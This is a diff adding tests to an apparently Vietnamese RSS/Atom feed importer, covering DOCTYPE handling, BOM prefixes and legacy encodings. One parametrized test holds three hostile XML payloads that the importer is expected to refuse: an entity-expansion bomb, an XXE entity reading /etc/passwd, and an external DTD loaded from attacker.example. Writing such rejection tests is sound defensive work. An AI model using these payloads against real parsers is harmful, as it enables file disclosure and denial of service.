@@ -122,3 +122,59 @@ def test_a_missing_file_or_other_xml_is_refused_clearly(runner, tmp_path):
     other.write_text("<ghichu><dong>Họp thôn</dong></ghichu>", encoding="utf-8")
     refused = runner.invoke(args=["import-feed", str(other)])
     assert refused.exit_code != 0 and "không phải nguồn tin RSS hay Atom" in refused.output
+
+
+NETSCAPE_DOCTYPE = (
+    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
+    ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
+)
+
+
+def test_the_rss_091_netscape_doctype_is_accepted(runner, tmp_path):
+    """A public DOCTYPE with no internal subset declares nothing and is harmless."""
+    feed = tmp_path / "rss091.xml"
+    text = Path(RSS).read_text(encoding="utf-8")
+    feed.write_text(text.replace("?>\n", "?>\n" + NETSCAPE_DOCTYPE, 1), encoding="utf-8")
+    run(runner, str(feed))
+    assert article("Thông báo nghỉ Tết Nguyên đán") is not None
+
+
+@pytest.mark.parametrize(
+    "subset",
+    ['[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]',
+     '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]',
+     '[<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]'],
+)  # fmt: skip
+def test_attack_a_doctype_declaring_entities_is_still_refused(runner, tmp_path, subset):
+    feed = tmp_path / "doctype.xml"
+    text = Path(RSS).read_text(encoding="utf-8")
+    feed.write_text(text.replace("?>\n", f"?>\n<!DOCTYPE rss {subset}>\n", 1), encoding="utf-8")
+    result = runner.invoke(args=["import-feed", str(feed)])
+    assert result.exit_code != 0 and "tấn công" in result.output
+    assert count(Article) == 0
+
+
+@pytest.mark.parametrize("prefix", [b"\n\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n"])
+def test_a_feed_with_a_blank_line_before_the_declaration_is_read(runner, tmp_path, prefix):
+    feed = tmp_path / "dong-trong.xml"
+    feed.write_bytes(prefix + Path(ATOM).read_bytes())
+    run(runner, str(feed))
+    assert count(Article) > 0
+
+
+@pytest.mark.parametrize("encoding", ["windows-1258", "big5", "euc-kr", "gb2312", "iso-8859-1"])
+def test_a_feed_in_a_declared_encoding_is_decoded(runner, tmp_path, encoding):
+    title = {"big5": "中文標題", "euc-kr": "한국어 제목", "gb2312": "中文标题",
+             "iso-8859-1": "Café à Hà Nội"}.get(encoding, "Tin xã Tân Lập")  # fmt: skip
+    feed = tmp_path / "feed.xml"
+    safe = title.encode(encoding, "xmlcharrefreplace").decode(encoding)
+    feed.write_bytes(
+        f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
+        f"<title>x</title><link>https://cu.example/</link><item><title>{safe}</title>"
+        "<link>https://cu.example/a.html</link><pubDate>Mon, 03 Feb 2020 09:15:00 +0700"
+        "</pubDate><description>Nội dung</description></item></channel></rss>"
+        .encode(encoding, "xmlcharrefreplace")
+    )  # fmt: skip
+    run(runner, str(feed))
+    assert article(title) is not None
+    assert article(title).body == "<p>Nội dung</p>"
